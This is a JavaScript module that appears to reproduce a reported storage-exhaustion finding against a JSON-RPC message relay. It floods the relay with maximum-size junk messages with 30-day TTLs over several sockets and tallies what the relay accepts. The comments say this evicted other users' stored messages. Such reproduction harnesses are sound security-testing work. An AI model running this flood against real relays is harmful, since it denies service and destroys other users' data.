import { randomBytes } from 'node:crypto'
import { createTally } from './createTally.mjs'
import { floodRequests } from './floodRequests.mjs'
import { openAttackSockets } from './openAttackSockets.mjs'

/** The relay's default maxMessageBytes: the largest message it stores. */
const messageBytes = 128 * 1024
const junk = 'j'.repeat(messageBytes)
/** The longest TTL the relay grants (30 days): junk that would otherwise stay. */
const ttlSeconds = 30 * 24 * 60 * 60

/**
 * R3 of issue #15: `keyPairs` key pairs from one address (one socket each) publish 128 KiB messages on fresh
 * junk topics with 30-day TTLs, 2 in flight per socket, until the flood ends: in the finding, 520 of them
 * evicted everyone's stored messages, a pending session proposal included. Tallies the answers (`ok` or the
 * JSON-RPC error code) and the bytes the relay accepted.
 *
 * @example const r3 = createStorageAttack({ relayUrl, localAddress: '127.0.0.4' }); await r3.open()
 */
export function createStorageAttack({ relayUrl, localAddress, keyPairs = 8 }) {
  const upgrades = createTally()
  const answers = createTally()
  let clients = []
  let publishes = 0
  let acceptedBytes = 0

  const nextRequest = (index) => {
    const prefix = `${index}:${randomBytes(8).toString('hex')}:`
    return {
      method: 'irn_publish',
      params: {
        topic: randomBytes(32).toString('hex'),
        message: prefix + junk.slice(prefix.length),
        ttl: ttlSeconds,
        tag: 1,
      },
    }
  }
  const onAnswer = (answer) => {
    publishes += 1
    if (answer.result === true) {
      acceptedBytes += messageBytes
      answers.add('ok')
    } else answers.add(answer.error?.code ?? 'closed')
  }

  return {
    async open() {
      const { opened } = await openAttackSockets({
        relayUrl,
        localAddress,
        attempts: keyPairs,
        concurrency: keyPairs,
        upgrades,
        options: () => ({}),
      })
      clients = opened
    },
    async flood(untilMs) {
      await Promise.all(
        clients.map((client) => floodRequests({ client, window: 2, untilMs, nextRequest, onAnswer })),
      )
    },
    async close() {
      await Promise.all(clients.map((client) => client.close()))
    },
    report() {
      return {
        what: `${keyPairs} key pairs from one address: 128 KiB publishes on fresh junk topics, 30-day TTL, 2 in flight each`,
        upgrades: upgrades.toJSON(),
        publishes,
        answers: answers.toJSON(),
        acceptedMiB: acceptedBytes / 1024 / 1024,
      }
    },
  }
}
